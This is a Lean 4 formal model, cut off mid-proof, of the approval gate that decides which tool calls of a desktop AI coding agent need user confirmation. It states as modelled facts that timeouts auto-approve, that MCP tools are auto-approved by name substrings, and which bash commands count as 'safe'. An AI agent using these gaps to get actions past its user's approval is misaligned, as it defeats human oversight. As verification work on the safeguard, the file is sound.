import Mathlib

/-
Verification of the approval-gated tool execution pipeline of the
myclaude-cowork repository (src/src-tauri/src).

The Rust sources are shallowly embedded as executable Lean definitions:

* `approval_server.rs` — auto-approval policy (`is_auto_approved`,
  `is_safe_bash_command`), approval-dialog detail construction
  (`build_details`, `extract_path_args`, `friendly_path`), the `/approval`
  registration phase (`handle_approval`) and its wait-outcome policy
  (`handle_approval_decision`), and the `/respond` resolver
  (`handle_respond`).
* `local_llm.rs` — the local-LLM approval waiter's wait-outcome policy
  (`request_approval_decision`), the tool executor (`execute_tool`),
  the tool-calling loop (`send_message_rounds`, bound `MAX_TOOL_ROUNDS`),
  and the streaming tool-call fragment merge (`mergedToolCalls`).
* `claude.rs` — the NDJSON stdout line decoder (`stdout_task`).

The process-wide pending-approval table
(`Arc<Mutex<HashMap<String, oneshot::Sender<bool>>>>`, shared between
`approval_server.rs`, `claude.rs` and `local_llm.rs`) is modelled as the
list of live approval identifiers; the mutations the Rust call sites
perform on it are the trace semantics `regStep` / `runTrace`.

External collaborators (serde_json parsing, the translator
`translate_tool_event`, the filesystem/process effects, the HTTP/LLM
transport, `HOME`) are passed in as explicit parameters, mirroring the
interface each Rust call site consumes.
-/

namespace Cowork

/-! ## String primitives

Rust `str` operations used by the sources, modelled over the character
list of the string (Unicode whitespace restricted to its ASCII part,
which is all the approval policy's inputs use). -/

/-- Rust `str::trim`: remove leading and trailing whitespace. -/
def strTrim (s : String) : String :=
  ⟨(((s.data.dropWhile Char.isWhitespace).reverse).dropWhile Char.isWhitespace).reverse⟩

/-- Rust `str::starts_with(pre)`. -/
def strStartsWith (s pre : String) : Bool :=
  pre.data.isPrefixOf s.data

/-- Helper for Rust `str::contains(pat)`: substring search on char lists. -/
def listContainsSub : List Char → List Char → Bool
  | [], pat => pat.isEmpty
  | c :: t, pat => pat.isPrefixOf (c :: t) || listContainsSub t pat

/-- Rust `str::contains(pat)`. -/
def strContainsSub (s pat : String) : Bool :=
  listContainsSub s.data pat.data

/-- Rust `s.split_whitespace().next().unwrap_or("")`: first whitespace-separated
token of a string (empty string when there is none). -/
def firstToken (s : String) : String :=
  String.mk (((s.data.splitOnP Char.isWhitespace).filter (fun w => w ≠ [])).headD [])

/-- Rust `str::trim_matches(p)`: strip leading and trailing characters
satisfying `p`. -/
def strTrimMatches (p : Char → Bool) (s : String) : String :=
  ⟨(((s.data.dropWhile p).reverse).dropWhile p).reverse⟩

/-- Rust `s.chars().take(n).collect::<String>()`. -/
def strTakeChars (s : String) (n : Nat) : String :=
  ⟨s.data.take n⟩

/-! ## JSON values (`serde_json::Value`) -/

/-- Model of `serde_json::Value`. Numbers are collapsed to `Int`; none of
the verified code paths inspects a numeric payload. -/
inductive Json where
  | null
  | bool (b : Bool)
  | num (n : Int)
  | str (s : String)
  | arr (xs : List Json)
  | obj (fields : List (String × Json))

/-- Rust `Value::get(key)`: field lookup on an object, `None` otherwise. -/
def Json.get : Json → String → Option Json
  | .obj fields, key => (fields.find? (fun p => p.1 = key)).map (fun p => p.2)
  | _, _ => none

/-- Rust `Value::as_str()`. -/
def Json.asStr : Json → Option String
  | .str s => some s
  | _ => none

/-! ## Auto-approval policy (`approval_server.rs` lines 49-94) -/

/-- Check if a bash command is safe (read-only) —
`approval_server.rs::is_safe_bash_command` (lines 80-94). -/
def is_safe_bash_command (cmd : String) : Bool :=
  let trimmed := strTrim cmd
  let first_word := firstToken trimmed
  (first_word ∈ ["ls", "dir", "pwd", "echo", "cat", "head", "tail",
                 "whoami", "hostname", "date", "which", "where", "type",
                 "find", "wc", "sort", "uniq", "diff", "tree"])
  || strStartsWith trimmed "git status"
  || strStartsWith trimmed "git log"
  || strStartsWith trimmed "git diff"
  || strStartsWith trimmed "git branch"
  || strStartsWith trimmed "git show"
  || strStartsWith trimmed "git remote"

/-- Tools that are always auto-approved —
`approval_server.rs::is_auto_approved` (lines 50-77). -/
def is_auto_approved (tool_name : String) (tool_input : Json) : Bool :=
  if tool_name ∈ ["Read", "Glob", "Grep", "WebFetch", "WebSearch"] then true
  else if tool_name ∈ ["Task", "TaskOutput", "TodoWrite", "TaskStop"] then true
  else if tool_name ∈ ["AskUserQuestion", "EnterPlanMode", "ExitPlanMode", "Skill"] then true
  else if tool_name ∈ ["TeamCreate", "TeamDelete", "SendMessage"] then true
  else if strStartsWith tool_name "mcp__" &&
      (strContainsSub tool_name "read" || strContainsSub tool_name "list" ||
       strContainsSub tool_name "get" || strContainsSub tool_name "find" ||
       strContainsSub tool_name "search" || strContainsSub tool_name "think" ||
       strContainsSub tool_name "check" || strContainsSub tool_name "initial_instructions" ||
       strContainsSub tool_name "overview") then true
  else if tool_name = "Bash" then
    let cmd := ((tool_input.get "command").bind Json.asStr).getD ""
    is_safe_bash_command cmd
  else false

/-! ## Approval-dialog details (`approval_server.rs` lines 96-221) -/

/-- Fold state of the character loop in
`approval_server.rs::extract_path_args`. -/
structure PathArgsState where
  in_quote : Option Char
  current : String
  first : Bool
  args : List String

/-- One character step of `extract_path_args`'s `while let` loop. -/
def pathArgsStep (st : PathArgsState) (c : Char) : PathArgsState :=
  if c = '"' ∨ c = '\'' then
    if st.in_quote = some c then { st with in_quote := none }
    else if st.in_quote = none then { st with in_quote := some c }
    else { st with current := st.current.push c }
  else if c = ' ' ∧ st.in_quote = none then
    if st.current ≠ "" then
      if st.first then { st with first := false, current := "" }
      else if strStartsWith st.current "-" then { st with current := "" }
      else { st with args := st.args ++ [st.current], current := "" }
    else st
  else { st with current := st.current.push c }

/-- Extract path arguments from a command, skipping the command name and
flags — `approval_server.rs::extract_path_args` (lines 169-204). -/
def extract_path_args (cmd : String) : List String :=
  let fin := cmd.data.foldl pathArgsStep ⟨none, "", true, []⟩
  if fin.current ≠ "" ∧ ¬fin.first ∧ ¬(strStartsWith fin.current "-") then
    fin.args ++ [fin.current]
  else fin.args

/-- Extract the last path argument —
`approval_server.rs::extract_last_path_arg`. -/
def extract_last_path_arg (cmd : String) : Option String :=
  (extract_path_args cmd).getLast?

/-- Make a file path user-friendly —
`approval_server.rs::friendly_path` (lines 212-221), with the `HOME`
environment variable passed in explicitly. -/
def friendly_path (home : Option String) (path : String) : String :=
  let cleaned := strTrimMatches (fun c => c = '"' || c = '\'') path
  match home with
  | some home_str =>
    if strStartsWith cleaned home_str then
      "~" ++ String.mk (cleaned.data.drop home_str.data.length)
    else cleaned
  | none => cleaned

/-- Result of the external description generator
`translator.rs::translate_tool_event` (an external collaborator of the
core; it is supplied as a parameter where the source calls it). -/
structure Translated where
  description : String
  raw : String

/-- External collaborators consumed by `handle_approval`: the translator,
`serde_json::to_string_pretty`, and the `HOME` environment variable. -/
structure Collab where
  translate : String → Json → Translated
  jsonPretty : Json → String
  home : Option String

/-- Parse a Bash command into detail lines —
`approval_server.rs::build_bash_details` (lines 137-166). -/
def build_bash_details (collab : Collab) (cmd : String) : List String :=
  let trimmed := strTrim cmd
  if strStartsWith trimmed "mkdir" then
    match extract_last_path_arg trimmed with
    | some path =>
      let fp := friendly_path collab.home path
      [s!"場所: {fp}"]
    | none => []
  else if strStartsWith trimmed "cp " then
    let args := extract_path_args trimmed
    if args.length ≥ 2 then
      let src := friendly_path collab.home (args.getD (args.length - 2) "")
      let dst := friendly_path collab.home ((args.getLast?).getD "")
      [s!"コピー元: {src}", s!"コピー先: {dst}"]
    else []
  else if strStartsWith trimmed "mv " then
    let args := extract_path_args trimmed
    if args.length ≥ 2 then
      let src := friendly_path collab.home (args.getD (args.length - 2) "")
      let dst := friendly_path collab.home ((args.getLast?).getD "")
      [s!"移動元: {src}", s!"移動先: {dst}"]
    else []
  else if strStartsWith trimmed "rm " then
    (extract_path_args trimmed).map (fun arg =>
      let fp := friendly_path collab.home arg
      s!"削除対象: {fp}")
  else
    [s!"実行コマンド: {cmd}"]

/-- Build details for the approval dialog —
`approval_server.rs::build_details` (lines 97-134). -/
def build_details (collab : Collab) (tool_name : String) (tool_input : Json) : List String :=
  if tool_name = "Bash" then
    match (tool_input.get "command").bind Json.asStr with
    | some cmd => build_bash_details collab cmd
    | none => []
  else if tool_name = "Write" then
    match (tool_input.get "file_path").bind Json.asStr with
    | some path =>
      let fp := friendly_path collab.home path
      [s!"場所: {fp}"]
    | none => []
  else if tool_name = "Edit" then
    (match (tool_input.get "file_path").bind Json.asStr with
     | some path =>
       let fp := friendly_path collab.home path
       [s!"場所: {fp}"]
     | none => []) ++
    (match (tool_input.get "old_string").bind Json.asStr with
     | some old =>
       let preview := strTakeChars old 80
       [s!"変更箇所: {preview}..."]
     | none => [])
  else if tool_name = "NotebookEdit" then
    match (tool_input.get "notebook_path").bind Json.asStr with
    | some path =>
      let fp := friendly_path collab.home path
      [s!"場所: {fp}"]
    | none => []
  else
    [strTakeChars (collab.jsonPretty tool_input) 300]

/-! ## Pending-approval registry

The process-wide table `HashMap<String, oneshot::Sender<bool>>` (shared
between `approval_server.rs`, `claude.rs` and `local_llm.rs` via
`lib.rs` lines 517-519) is modelled as the list of live approval
identifiers. -/

/-- `pending.insert(id, tx)` — HashMap insert (replaces any old binding). -/
def insertPending (id : String) (pending : List String) : List String :=
  id :: pending.filter (fun k => k ≠ id)

/-- `pending.remove(id)`'s effect on the table. -/
def removePending (id : String) (pending : List String) : List String :=
  pending.filter (fun k => k ≠ id)

/-- The two waiter call sites that register into the shared table:
the approval HTTP server (`approval_server.rs::handle_approval`) and the
local-LLM manager (`local_llm.rs::request_approval`). -/
inductive Site where
  | server
  | localLlm
deriving DecidableEq

/-- Registry-mutating events, one per call-site action on the shared table:
`register site id` is the `pending.insert` of a fresh waiter,
`respond id b` is `handle_respond` / `respond_to_approval` (remove and
send `b`), and `fireTimeout site id` is the waiter's timeout branch. -/
inductive RegEvent where
  | register (site : Site) (id : String)
  | respond (id : String) (approved : Bool)
  | fireTimeout (site : Site) (id : String)
deriving DecidableEq

/-- Effect of one event on the pending table, as the Rust call sites
perform it: `handle_respond` removes the slot; the server waiter's
timeout branch removes it (`approval_server.rs` line 284); the local-LLM
waiter's timeout branch performs no removal (`local_llm.rs` lines
456-459: `_ => false` with no cleanup). -/
def regStep (pending : List String) : RegEvent → List String
  | .register _ id => insertPending id pending
  | .respond id _ => removePending id pending
  | .fireTimeout .server id => removePending id pending
  | .fireTimeout .localLlm _ => pending

/-- Run a trace of registry events from an initial table. -/
def runTrace (pending : List String) (t : List RegEvent) : List String :=
  t.foldl regStep pending

/-- Result of the `/respond` endpoint. -/
inductive RespondResult where
  | ok (approved : Bool)
  | notFound
deriving DecidableEq

/-- `approval_server.rs::handle_respond` (lines 290-309): remove the slot
for the identifier; if present deliver the decision and answer 200,
otherwise answer 404 NOT_FOUND. (`lib.rs::respond_to_approval` lines
119-135 acts identically on the same table.) -/
def handle_respond (pending : List String) (approval_id : String) (approved : Bool) :
    RespondResult × List String :=
  if approval_id ∈ pending then
    (RespondResult.ok approved, removePending approval_id pending)
  else
    (RespondResult.notFound, pending)

/-- Booleans delivered into the oneshot channel of a given identifier
along a trace: a `respond` delivers its decision exactly when the slot is
live at that moment. -/
def deliveries (pending : List String) : List RegEvent → String → List Bool
  | [], _ => []
  | e :: t, id =>
    (match e with
     | .respond rid b => if rid = id ∧ rid ∈ pending then [b] else []
     | _ => []) ++ deliveries (regStep pending e) t id

/-- Whether an event registers the given identifier. -/
def registersId (id : String) : RegEvent → Bool
  | .register _ rid => rid = id
  | _ => false

/-- Whether an event is a registration. -/
def isRegister : RegEvent → Bool
  | .register _ _ => true
  | _ => false

/-- Whether an event is a resolution or a timeout of a waiter. -/
def isResolution : RegEvent → Bool
  | .respond _ _ => true
  | .fireTimeout _ _ => true
  | _ => false

/-- Number of registrations in a trace (the spec's N). -/
def countRegs (t : List RegEvent) : Nat := (t.filter isRegister).length

/-- Number of resolutions and timeouts in a trace (the spec's M). -/
def countResolutions (t : List RegEvent) : Nat := (t.filter isResolution).length

/-- Well-formed trace from a given table: registrations use fresh
identifiers, and every resolution or timeout targets a live slot. -/
def wfTrace (pending : List String) : List RegEvent → Bool
  | [] => true
  | e :: t =>
    (match e with
     | .register _ id => decide (id ∉ pending)
     | .respond id _ => decide (id ∈ pending)
     | .fireTimeout _ id => decide (id ∈ pending)) && wfTrace (regStep pending e) t

/-- Whether every timeout in the trace fires on the approval-server
waiter's path (the path that performs cleanup). -/
def serverTimeoutsOnly (t : List RegEvent) : Bool :=
  t.all (fun e => match e with
    | .fireTimeout s _ => s = Site.server
    | _ => true)

/-! ## Wait-outcome policies of the two waiters -/

/-- Outcome of `tokio::time::timeout(d, rx).await` on a oneshot receiver:
a delivered value, a closed channel (sender dropped without a value), or
an elapsed timeout. -/
inductive WaitOutcome where
  | received (b : Bool)
  | closed
  | timedOut
deriving DecidableEq

/-- Decision the `/approval` waiter reports to the hook for each wait
outcome — `approval_server.rs::handle_approval` lines 273-287: a received
value is passed through, a closed channel auto-approves (line 280), a
timeout auto-approves (line 285). -/
def handle_approval_decision : WaitOutcome → Bool
  | .received b => b
  | .closed => true
  | .timedOut => true

/-- Decision the local-LLM waiter reports for each wait outcome —
`local_llm.rs::request_approval` lines 456-459: a received value is
passed through, everything else (`_`) is a rejection. -/
def request_approval_decision : WaitOutcome → Bool
  | .received b => b
  | .closed => false
  | .timedOut => false

/-- Hook payload received from the PreToolUse hook script
(`approval_server.rs::HookPayload`). -/
structure HookPayload where
  tool_name : String
  tool_input : Json
  tool_use_id : Option String
  session_id : Option String

/-- Approval request sent to the frontend
(`approval_server.rs::ApprovalRequest`). -/
structure ApprovalRequest where
  id : String
  tool_name : String
  description : String
  raw_input : String
  details : List String

/-- Registration phase of `approval_server.rs::handle_approval` (lines
236-263), up to its await point: an auto-approved payload returns
immediately with no ApprovalRequest and no table change; otherwise the
ApprovalRequest is built (translator + details), emitted, and a fresh
slot is inserted. Returns the constructed request (if any) and the new
table. -/
def handle_approval (collab : Collab) (payload : HookPayload) (fresh_id : String)
    (pending : List String) : Option ApprovalRequest × List String :=
  if is_auto_approved payload.tool_name payload.tool_input then
    (none, pending)
  else
    let translated := collab.translate payload.tool_name payload.tool_input
    let details := build_details collab payload.tool_name payload.tool_input
    let req : ApprovalRequest :=
      ⟨fresh_id, payload.tool_name, translated.description, translated.raw, details⟩
    (some req, insertPending fresh_id pending)

/-- A concrete collaborator bundle (used to instantiate witnesses). -/
def defaultCollab : Collab :=
  ⟨fun _ _ => ⟨"", ""⟩, fun _ => "", none⟩

/-! ## Local-LLM tool executor (`local_llm.rs`) -/

/-- `local_llm.rs::ApiFunction`. -/
structure ApiFunction where
  name : String
  arguments : String
deriving DecidableEq

/-- `local_llm.rs::ApiToolCall`. -/
structure ApiToolCall where
  id : String
  call_type : String
  function : ApiFunction
deriving DecidableEq

/-- `local_llm.rs::ApiMessage` (one entry of the conversation). -/
structure ApiMessage where
  role : String
  content : Option String
  tool_calls : Option (List ApiToolCall)
  tool_call_id : Option String
deriving DecidableEq

/-- Fire-and-forget notifications the local-LLM path emits to the
frontend (`app.emit` calls in `local_llm.rs`). -/
inductive Emission where
  | activity (id description : String) (raw_command : Option String) (status : String)
  | activityDone (id description : String) (status : String)
  | approvalRequested (tool_name description : String)
  | chatMessage (role content : String)
  | textDelta (text : String)
  | doneSignal (ok : Bool)
deriving DecidableEq

/-- Whether an emission is an activity-completed or activity-error
notification (`claude:activity_done`). -/
def isActivityDone : Emission → Bool
  | .activityDone _ _ _ => true
  | _ => false

/-- Side effects the four tools perform (filesystem / process), with the
working directory they receive — `local_llm.rs::exec_read_file`,
`exec_write_file`, `exec_list_directory`, `exec_run_command`. -/
inductive ToolEffect where
  | readFile (path working_dir : String)
  | writeFile (path content working_dir : String)
  | listDirectory (path working_dir : String)
  | runCommand (command working_dir : String)
deriving DecidableEq

/-- Check if a tool requires user approval —
`local_llm.rs::requires_approval` (lines 319-321). -/
def requires_approval (tool_name : String) : Bool :=
  tool_name = "write_file" || tool_name = "run_command"

/-- Build a human-readable description for a tool call —
`local_llm.rs::describe_tool_call` (lines 324-360). The Rust
`args["content"].as_str().map(|c| c.len())` is a UTF-8 byte length. -/
def describe_tool_call (name : String) (args : Json) : String × List String :=
  if name = "read_file" then
    let path := ((args.get "path").bind Json.asStr).getD "?"
    (s!"ファイルを読み取り: {path}", [s!"パス: {path}"])
  else if name = "write_file" then
    let path := ((args.get "path").bind Json.asStr).getD "?"
    let content_len := (((args.get "content").bind Json.asStr).map String.utf8ByteSize).getD 0
    (s!"ファイルに書き込み: {path}",
     [s!"パス: {path}", s!"サイズ: {content_len} bytes"])
  else if name = "list_directory" then
    let path := ((args.get "path").bind Json.asStr).getD "."
    (s!"ディレクトリ一覧: {path}", [s!"パス: {path}"])
  else if name = "run_command" then
    let cmd := ((args.get "command").bind Json.asStr).getD "?"
    (s!"コマンド実行: {cmd}", [s!"コマンド: {cmd}"])
  else (s!"ツール: {name}", [])

/-- Effect dispatched for a tool name and parsed arguments — the `match
tool_call.function.name.as_str()` of `local_llm.rs::execute_tool` (lines
510-529); `none` is the `Unknown tool` arm. -/
def toolDispatch (name : String) (args : Json) (working_dir : String) : Option ToolEffect :=
  if name = "read_file" then
    some (.readFile (((args.get "path").bind Json.asStr).getD "") working_dir)
  else if name = "write_file" then
    some (.writeFile (((args.get "path").bind Json.asStr).getD "")
                     (((args.get "content").bind Json.asStr).getD "") working_dir)
  else if name = "list_directory" then
    some (.listDirectory (((args.get "path").bind Json.asStr).getD ".") working_dir)
  else if name = "run_command" then
    some (.runCommand (((args.get "command").bind Json.asStr).getD "") working_dir)
  else none

/-- Execute a single tool call — `local_llm.rs::execute_tool` (lines
463-542). Parameters model the externals: `parseArgs` is
`serde_json::from_str` on the argument buffer, `effectResult` the text
returned by the filesystem/process effect, `wait` the resolution of the
approval wait. Returns the emitted notifications, the result string fed
back to the conversation, and the effects actually executed. -/
def execute_tool (parseArgs : String → Except String Json)
    (effectResult : ToolEffect → String) (wait : WaitOutcome)
    (working_dir : String) (tc : ApiToolCall) :
    List Emission × String × List ToolEffect :=
  match parseArgs tc.function.arguments with
  | .error e => ([], s!"Error parsing arguments: {e}", [])
  | .ok args =>
    let dd := describe_tool_call tc.function.name args
    let startEmit := Emission.activity tc.id dd.1 (some tc.function.arguments) "running"
    let run : List Emission × String × List ToolEffect :=
      let gatedEmits : List Emission :=
        if requires_approval tc.function.name then
          [Emission.approvalRequested tc.function.name dd.1]
        else []
      match toolDispatch tc.function.name args working_dir with
      | some eff =>
        (startEmit :: gatedEmits ++ [Emission.activityDone tc.id "完了" "done"],
         effectResult eff, [eff])
      | none =>
        (startEmit :: gatedEmits ++ [Emission.activityDone tc.id "完了" "done"],
         "Unknown tool: " ++ tc.function.name, [])
    if requires_approval tc.function.name then
      if request_approval_decision wait then run
      else
        ([startEmit, Emission.approvalRequested tc.function.name dd.1,
          Emission.activityDone tc.id "拒否されました" "error"],
         "User denied this operation.", [])
    else run

/-! ## Tool-calling loop (`local_llm.rs::send_message`, lines 756-874) -/

/-- Loop bound — `local_llm.rs` line 364. -/
def MAX_TOOL_ROUNDS : Nat := 25

/-- One model response: accumulated text and the (possibly absent) list
of completed tool calls, as produced by `send_streaming` (round 0) or
`send_non_streaming` (later rounds). -/
structure LlmResponse where
  text : String
  tool_calls : Option (List ApiToolCall)

/-- Outbound message list of one round: the optional non-empty system
prompt prepended to the conversation (`local_llm.rs` lines 781-795). -/
def buildApiMessages (system_prompt : Option String) (conv : List ApiMessage) :
    List ApiMessage :=
  (match system_prompt with
   | some sys => if sys ≠ "" then [⟨"system", some sys, none, none⟩] else []
   | none => []) ++ conv

/-- Assistant message appended to the conversation after each round
(`local_llm.rs` lines 815-823). -/
def assistantMsg (resp : LlmResponse) : ApiMessage :=
  ⟨"assistant", if resp.text = "" then none else some resp.text, resp.tool_calls, none⟩

/-- Tool-role result messages appended after executing a round's calls
(`local_llm.rs` lines 851-865), given the executor. -/
def toolResultsFor (execTool : ApiToolCall → List Emission × String × List ToolEffect)
    (calls : List ApiToolCall) : List ApiMessage :=
  calls.map (fun tc => ⟨"tool", some (execTool tc).2.1, none, some tc.id⟩)

/-- Effects executed for a round's calls, in order. -/
def callsEffects (execTool : ApiToolCall → List Emission × String × List ToolEffect)
    (calls : List ApiToolCall) : List ToolEffect :=
  (calls.map (fun tc => (execTool tc).2.2)).flatten

/-- The `for round in 0..MAX_TOOL_ROUNDS` loop of
`local_llm.rs::send_message` (lines 779-868), with the transport as the
oracle `llm` (round number and outbound messages to response or
transport error) and the tool executor as `execTool`. The fuel starts at
`MAX_TOOL_ROUNDS`; `round` counts executed request/response rounds.
Returns the final conversation, the number of rounds executed, and all
executed effects; fuel exhaustion falls out of the loop normally (it is
not an error). -/
def send_message_rounds (llm : Nat → List ApiMessage → Except String LlmResponse)
    (execTool : ApiToolCall → List Emission × String × List ToolEffect)
    (system_prompt : Option String) :
    Nat → Nat → List ApiMessage → Except String (List ApiMessage × Nat × List ToolEffect)
  | 0, round, conv => .ok (conv, round, [])
  | fuel + 1, round, conv =>
    match llm round (buildApiMessages system_prompt conv) with
    | .error e => .error e
    | .ok resp =>
      let has_tool_calls := !(resp.tool_calls.getD []).isEmpty
      let conv1 := conv ++ [assistantMsg resp]
      if has_tool_calls then
        let calls := resp.tool_calls.getD []
        let conv2 := conv1 ++ toolResultsFor execTool calls
        match send_message_rounds llm execTool system_prompt fuel (round + 1) conv2 with
        | .error e => .error e
        | .ok (c, n, es) => .ok (c, n, callsEffects execTool calls ++ es)
      else .ok (conv1, round + 1, [])

/-! ## Streaming tool-call fragment merge (`local_llm.rs::send_streaming`,
lines 639-753) -/

/-- `local_llm.rs::ChunkFunction`. -/
structure ChunkFunction where
  name : Option String
  arguments : Option String
deriving DecidableEq

/-- `local_llm.rs::ChunkToolCall` (one tool-call fragment of a stream
chunk). -/
structure ChunkToolCall where
  index : Option Nat
  id : Option String
  function : Option ChunkFunction
deriving DecidableEq

/-- Merge key of a fragment: `tc.index.unwrap_or(0)`. -/
def fragKey (tc : ChunkToolCall) : Nat := tc.index.getD 0

/-- Accumulator entry for one index: `(id, name, arguments)` as in
`tool_calls_map: HashMap<usize, (String, String, String)>`. -/
def emptyEntry : String × String × String := ("", "", "")

/-- Lookup in the accumulator map (association list keyed by index). -/
def mapLookup (m : List (Nat × (String × String × String))) (k : Nat) :
    Option (String × String × String) :=
  (m.find? (fun p => p.1 = k)).map (fun p => p.2)

/-- Insert/replace a binding in the accumulator map. -/
def mapInsert (m : List (Nat × (String × String × String))) (k : Nat)
    (v : String × String × String) : List (Nat × (String × String × String)) :=
  (k, v) :: m.filter (fun p => p.1 ≠ k)

/-- Update one entry with one fragment: the fragment's id and name
overwrite when present, its argument text is appended (`entry.2.push_str`)
— `local_llm.rs` lines 671-686. -/
def updateEntry (e : String × String × String) (tc : ChunkToolCall) :
    String × String × String :=
  let e1 := match tc.id with
    | some id => (id, e.2.1, e.2.2)
    | none => e
  match tc.function with
  | some f =>
    let e2 := match f.name with
      | some n => (e1.1, n, e1.2.2)
      | none => e1
    match f.arguments with
    | some a => (e2.1, e2.2.1, e2.2.2 ++ a)
    | none => e2
  | none => e1

/-- Apply one fragment to the accumulator map:
`tool_calls_map.entry(idx).or_insert_with(default)` then in-place
mutation. -/
def applyChunkToolCall (m : List (Nat × (String × String × String)))
    (tc : ChunkToolCall) : List (Nat × (String × String × String)) :=
  let idx := fragKey tc
  mapInsert m idx (updateEntry ((mapLookup m idx).getD emptyEntry) tc)

/-- Fold all fragments of a stream, in arrival order, into the map. -/
def accumulateToolCalls (frags : List ChunkToolCall) :
    List (Nat × (String × String × String)) :=
  frags.foldl applyChunkToolCall []

/-- Per-entry projection of the fold: the entry evolution seen by a
single index (used to state that an index's result depends only on its
own fragment subsequence). -/
def entryStep (e : Option (String × String × String)) (tc : ChunkToolCall) :
    Option (String × String × String) :=
  some (updateEntry (e.getD emptyEntry) tc)

/-- Fold of `entryStep` over a fragment list. -/
def entryFold (frags : List ChunkToolCall)
    (e : Option (String × String × String)) : Option (String × String × String) :=
  frags.foldl entryStep e

/-- Collect the merged entries sorted by index
(`calls.sort_by_key(|(idx, _)| *idx)`, lines 738-748): keys are unique,
so scanning all indices up to the maximum key in increasing order yields
exactly the sorted entry list. -/
def collectSorted (m : List (Nat × (String × String × String))) :
    List (Nat × (String × String × String)) :=
  let maxK := (m.map (fun p => p.1)).foldl max 0
  (List.range (maxK + 1)).filterMap (fun i => (mapLookup m i).map (fun e => (i, e)))

/-- Final conversion of the accumulated map — `local_llm.rs` lines
734-750: `None` when no fragment arrived, otherwise the entries sorted
by index, each turned into an `ApiToolCall` with `call_type `
`"function"`. -/
def mergedToolCalls (frags : List ChunkToolCall) : Option (List ApiToolCall) :=
  let m := accumulateToolCalls frags
  if m.isEmpty then none
  else some ((collectSorted m).map (fun p => ⟨p.2.1, "function", ⟨p.2.2.1, p.2.2.2⟩⟩))

/-- Concatenation of the argument fragments of a fragment list, in
arrival order, onto an accumulator. -/
def argsConcatFrom (frags : List ChunkToolCall) (acc : String) : String :=
  frags.foldl (fun a tc => a ++ ((tc.function.bind ChunkFunction.arguments).getD "")) acc

/-- Concatenation of the argument fragments of a fragment list, in
arrival order. -/
def argsConcat (frags : List ChunkToolCall) : String :=
  argsConcatFrom frags ""

/-- Concrete stream fragments (two fragments of call index 0, one of
call index 1), used to instantiate the merge-invariance theorem. -/
def fragA : ChunkToolCall := ⟨some 0, some "call-a", some ⟨some "write_file", some "ab"⟩⟩

/-- Second fragment of call index 0: only more argument text. -/
def fragB : ChunkToolCall := ⟨some 0, none, some ⟨none, some "cd"⟩⟩

/-- Single fragment of call index 1. -/
def fragC : ChunkToolCall := ⟨some 1, some "call-b", some ⟨some "read_file", some "xy"⟩⟩

/-! ## NDJSON stdout decoder (`claude.rs`) -/

/-- `claude.rs::ContentBlock`. -/
inductive ContentBlock where
  | text (text : String)
  | toolUse (id name : String) (input : Json)
  | toolResult (tool_use_id : String) (content : Option Json) (extra : Json)

/-- `claude.rs::AssistantMessage`. -/
structure AssistantMessage where
  id : Option String
  role : Option String
  model : Option String
  content : List ContentBlock
  usage : Option Json

/-- `claude.rs::ClaudeStreamEvent` (the closed `type`-tagged variant
set). -/
inductive ClaudeStreamEvent where
  | system (subtype session_id : Option String) (extra : Json)
  | assistant (message : AssistantMessage) (extra : Json)
  | user (message : Json) (extra : Json)
  | result (subtype : Option String) (result : Option String) (is_error : Option Bool)
      (extra : Json)
  | streamEvent (event : Json) (extra : Json)

/-- Line loop of the stdout task in `claude.rs::send_message` (lines
292-396): blank lines are skipped; each remaining line is handed to
`serde_json::from_str` (the `parse` parameter); a successfully decoded
event is handled, a parse failure is logged and skipped — decoding never
aborts. The function returns the decoded events in order. -/
def stdout_task (parse : String → Option ClaudeStreamEvent) :
    List String → List ClaudeStreamEvent
  | [] => []
  | line :: rest =>
    if strTrim line = "" then stdout_task parse rest
    else
      match parse line with
      | some ev => ev :: stdout_task parse rest
      | none => stdout_task parse rest

/-! ## Registry lemmas -/

theorem not_mem_regStep {id : String} {p : List String} {e : RegEvent}
    (h : id ∉ p) (hr : registersId id e = false) : id ∉ regStep p e := by
  cases e with
  | register s rid =>
    simp only [registersId, decide_eq_false_iff_not] at hr
    simp only [regStep, insertPending, List.mem_cons, List.mem_filter]
    rintro (rfl | ⟨hm, _⟩)
    · exact hr rfl
    · exact h hm
  | respond rid b =>
    simp only [regStep, removePending, List.mem_filter]
    rintro ⟨hm, _⟩
    exact h hm
  | fireTimeout s rid =>
    cases s with
    | server =>
      simp only [regStep, removePending, List.mem_filter]
      rintro ⟨hm, _⟩
      exact h hm
    | localLlm => exact h

theorem deliveries_eq_nil {id : String} : ∀ (t : List RegEvent) (p : List String),
    (∀ e ∈ t, registersId id e = false) → id ∉ p → deliveries p t id = [] := by
  intro t
  induction t with
  | nil => intro p _ _; rfl
  | cons e t ih =>
    intro p hreg hnm
    have hrec := ih (regStep p e) (fun x hx => hreg x (List.mem_cons_of_mem _ hx))
      (not_mem_regStep hnm (hreg e (List.mem_cons_self _ _)))
    cases e with
    | register s rid => simpa [deliveries] using hrec
    | respond rid b =>
      have : ¬(rid = id ∧ rid ∈ p) := by
        rintro ⟨rfl, hm⟩; exact hnm hm
      simpa [deliveries, this] using hrec
    | fireTimeout s rid => simpa [deliveries] using hrec

theorem not_mem_removePending (id : String) (p : List String) :
    id ∉ removePending id p := by
  simp [removePending]

theorem deliveries_le_one_of_no_reg {id : String} : ∀ (t : List RegEvent) (p : List String),
    (∀ e ∈ t, registersId id e = false) → (deliveries p t id).length ≤ 1 := by
  intro t
  induction t with
  | nil => intro p _; simp [deliveries]
  | cons e t ih =>
    intro p hreg
    have htail : ∀ x ∈ t, registersId id x = false :=
      fun x hx => hreg x (List.mem_cons_of_mem _ hx)
    cases e with
    | register s rid => simpa [deliveries] using ih (regStep p (.register s rid)) htail
    | respond rid b =>
      by_cases hc : rid = id ∧ rid ∈ p
      · obtain ⟨rfl, hm⟩ := hc
        have hnil : deliveries (regStep p (RegEvent.respond rid b)) t rid = [] := by
          refine deliveries_eq_nil t _ htail ?_
          simpa [regStep] using not_mem_removePending rid p
        simp [deliveries, hm, hnil]
      · simpa [deliveries, hc] using ih (regStep p (.respond rid b)) htail
    | fireTimeout s rid => simpa [deliveries] using ih (regStep p (.fireTimeout s rid)) htail

theorem deliveries_le_one {id : String} : ∀ (t : List RegEvent) (p : List String),
    (t.filter (registersId id)).length ≤ 1 → id ∉ p →
    (deliveries p t id).length ≤ 1 := by
  intro t
  induction t with
  | nil => intro p _ _; simp [deliveries]
  | cons e t ih =>
    intro p hcnt hnm
    by_cases hre : registersId id e = true
    · have hzero : (t.filter (registersId id)).length = 0 := by
        simp only [List.filter, hre, List.length_cons] at hcnt
        omega
